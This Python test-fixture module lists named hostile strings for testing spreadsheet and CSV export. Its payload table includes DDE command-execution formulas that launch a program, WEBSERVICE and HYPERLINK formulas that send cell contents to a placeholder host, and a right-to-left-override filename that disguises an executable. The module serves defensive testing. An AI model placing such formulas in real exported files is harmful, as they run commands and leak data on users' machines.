"""Two hundred texts that harm whoever takes them lightly: formulas in every form, what no file can hold, and too much.

Each has a name, so that a failing test says which. The tests of files and of the clipboard read all of them back.
"""

from itertools import chain, product

SIGNS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "full width equals": "\uff1d",
    "full width plus": "\uff0b",
    "full width minus": "\uff0d",
    "full width at": "\uff20",
}
BEFORE = {
    "nothing": "",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "both line ends": "\r\n",
    "space": " ",
    "hard space": "\xa0",
    "apostrophe": "'",
    "two apostrophes": "''",
}
PAYLOADS = {
    "sum": "=SUM(1,1)",
    "program call": "=cmd|' /C calc'!A0",
    "program call by plus": "+cmd|' /C calc'!A0",
    "program call by minus": "-2+3+cmd|' /C calc'!A0",
    "program call by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "web request": '=WEBSERVICE("http://example.invalid/"&A1)',
    "web picture": '=IMAGE("http://example.invalid/x.png")',
    "sheets import": '=IMPORTXML("http://example.invalid","//a")',
    "other workbook": "='[other.xlsx]Sheet1'!A1",
    "array": "{=1+1}",
    "name of a function": '=RTD("a","b","c")',
    "many signs": "=+-@=+-@",
    "sign alone": "=",
    "two minus signs": "--",
    "negative amount": "-1,234.50",
    "phone number": "+1 (555) 010-0199",
    "semicolon after": "=1;2",
    "comma after": "=1,2",
    "tab after": "=1\t=2",
    "line after": "=1\r\n=2",
    "quote after": '="a""b"',
    "quote before": '"=1+1"',
    "closed quote before": '","=1+1',
    "delimiter before": ",=1+1",
    "separator line": "sep=;",
    "mail": "@name",
    "exchange of data": '=DDE("soffice";"x";"y")',
}
CONTROLS = {f"control {code:#04x}": f"a{chr(code)}b" for code in (*range(32), 0x7F, 0x80, 0x85, 0x9F)}
BROKEN = {
    "high surrogate alone": "a\ud800b",
    "low surrogate alone": "a\udfffb",
    "surrogates the wrong way round": "\udc00\ud800",
    "surrogate at the end": "a\udbff",
    "surrogate before a formula": "\ud83d=1",
    "no character fffe": "a\ufffeb",
    "no character ffff": "a\uffffb",
    "nothing but a zero byte": "\x00",
    "zero byte before a formula": "\x00=1",
    "escape sequence": "\x1b[2J\x1b[31mred",
}
MARKS = {
    "right to left mark": "a\u200fb",
    "left to right mark": "a\u200eb",
    "right to left override": "\u202egpj.exe",
    "embedding never closed": "\u202babc",
    "isolate": "\u2066abc\u2069",
    "mark before a formula": "\u200f=1+1",
    "joiner before a formula": "\u200d=1+1",
    "hebrew": "שלום 123",
    "arabic": "مرحبا",
    "byte order mark": "\ufeff=1+1",
    "byte order mark inside": "a\ufeffb",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "combining marks": "Z" + "\u0301\u0489" * 40,
    "beyond the first plane": "😀\U0001d518\U0010fffd",
    "replacement character": "a\ufffdb",
    "soft hyphen": "a\xadb",
}
SPELLINGS = {
    "quotes": '"',
    "quotes around": '"quoted"',
    "doubled quotes": '""',
    "odd quotes": 'say "hi',
    "apostrophe": "'",
    "leading apostrophe": "'text",
    "leading apostrophes": "'''text",
    "apostrophes around": "'quoted'",
    "line feed at the end": "a\n",
    "carriage return at the end": "a\r",
    "line ends alone": "\r\n\r\n",
    "tabs alone": "\t\t",
    "space alone": " ",
    "spaces around": "  a  ",
    "hard spaces": "\xa0a\xa0",
    "leading zeros": "00701",
    "figures": "123456789012345678901",
    "power": "1E5",
    "day": "1-2",
    "date": "2026-01-31",
    "truth": "TRUE",
    "error": "#N/A",
    "percent": "5%",
    "arabic digits": "١٢٣",
    "full width digits": "\uff11\uff12\uff13",
    "superscript": "x²",
    "xml": "<f>1+1</f>",
    "entity": "&lt;&#x41;&amp;",
    "end of data": "]]>",
    "character code": "_x0041_",
    "character code of nothing": "_x0000_",
    "escaped character code": "_x005F_x0041_",
    "codes of a formula": "_x003D_1+1",
    "backslashes": "\\n\\t\\",
    "null": "NULL",
    "wildcards": "%_*?",
}
LONG = {
    "just fits": "a" * 32_767,
    "one too long": "b" * 32_768,
    "40 000 characters": "c" * 40_000,
    "40 000 formulas": "=" * 40_000,
    "40 000 quotes": '"' * 40_000,
    "40 000 beyond the first plane": "😀" * 40_000,
    "40 000 line ends": "\n" * 40_000,
    "40 000 character codes": "_x0041_" * 5_715,
}


def _behind(before: str, sign: str) -> str:
    return f"{BEFORE[before]}{SIGNS[sign]}1+1"


FORMULAS = {f"{sign} behind {before}": _behind(before, sign) for sign, before in product(SIGNS, BEFORE)}
HOSTILE_TEXTS: dict[str, str] = dict(
    chain.from_iterable(table.items() for table in (FORMULAS, PAYLOADS, CONTROLS, BROKEN, MARKS, SPELLINGS, LONG))
)


def held(text: str) -> str:
    """The text without what no file of text can hold: `\\ufffd` stands for each such character."""
    return "".join("\ufffd" if _no_file_holds(ord(character)) else character for character in text)


def _no_file_holds(code: int) -> bool:
    return (code < 32 and code not in (9, 10, 13)) or 0xD800 <= code <= 0xDFFF or code in (0xFFFE, 0xFFFF)


def held_by_cell(text: str) -> str:
    """The text as far as a cell of a workbook can hold it."""
    kept, units = "", 0
    for character in held(text):
        units += 2 if ord(character) > 0xFFFF else 1
        if units > 32_767:
            break
        kept += character
    return kept


def is_active(text: str) -> bool:
    """Might a program that guesses what a text is calculate it?"""
    return text[:1] in {"\t", "\r", "\n"} or text.lstrip()[:1] in set(SIGNS.values())
